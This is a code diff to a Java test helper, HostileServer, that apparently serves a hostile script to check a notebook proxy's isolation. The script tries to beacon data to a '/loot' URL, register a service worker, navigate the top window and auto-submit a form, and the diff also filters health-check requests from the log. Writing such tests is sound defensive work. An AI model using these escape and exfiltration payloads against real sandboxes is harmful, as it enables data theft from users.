@@ -106,8 +106,10 @@ final class HostileServer implements AutoCloseable {
                   try { navigator.sendBeacon(tell + "&beacon") } catch {}
                   try { navigator.serviceWorker.register("/notebook/team/box/api/servers/evil/proxy/script.js") } catch {}
                   try { top.pwned = 1 } catch {}
-                  try { top.location = "ELSEWHERE/top" } catch {}
-                  try { document.getElementById("f").submit() } catch {}
+                  setTimeout(() => {
+                    try { top.location = tell.replace("/loot", "/top") } catch {}
+                    try { document.getElementById("f").submit() } catch {}
+                  }, 100);
                 })()
                 """.replace("ELSEWHERE", elsewhere.url()).replace("\n", " ");
     }
@@ -134,9 +136,11 @@ final class HostileServer implements AutoCloseable {
         return server.url();
     }
 
-    /** {@return the requests that reached it} */
+    /** {@return the requests that reached it, but for the proxy's own health checks} */
     List<String> requests() {
-        return server.heads();
+        return server.heads().stream()
+                .filter(head -> !head.startsWith("GET /global/health ") && !head.startsWith("GET /api/health "))
+                .toList();
     }
 
     /** {@return what got out} */
